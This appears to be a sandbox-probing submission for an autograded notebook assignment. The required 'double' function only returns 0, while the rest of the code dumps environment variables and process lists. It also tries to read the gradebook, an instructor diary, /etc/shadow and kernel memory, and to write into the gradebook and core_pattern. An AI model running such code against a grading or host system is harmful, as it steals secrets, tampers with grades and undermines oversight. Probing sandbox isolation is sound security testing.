# Looks for the gradebook, the source, other submissions, the instructor's home, environment and processes.
# %% double
import glob, os

print({k: v for k, v in os.environ.items()})
for place in ("/", "/root", "/work", "/home", "/tmp", "/proc/1/root", "/proc/1/cwd", "/proc/self/root/..", "ARENA_COURSE", "ARENA_HOME"):
    try:
        print(place, os.listdir(place))
    except OSError as error:
        print(place, error)
for path in ("ARENA_COURSE/gradebook.db", "ARENA_COURSE/source/arena/arena.ipynb", "ARENA_HOME/diary.txt", "/proc/1/environ",
             "/proc/1/mem", "/proc/self/mem", "/proc/1/maps", "/etc/shadow", "/proc/kcore", "/proc/kmsg"):
    try:
        print("READ", path, open(path, "rb").read(100))
    except OSError as error:
        print(path, error)
for path in ("ARENA_COURSE/gradebook.db", "ARENA_HOME/planted", "/usr/planted", "/proc/sys/kernel/core_pattern"):
    try:
        open(path, "ab").write(b"x")
        print("WROTE", path)
    except OSError as error:
        print(path, error)
print([(p, open(f"/proc/{p}/cmdline").read()[:50]) for p in os.listdir("/proc") if p.isdigit()])


def double(x):
    return 0
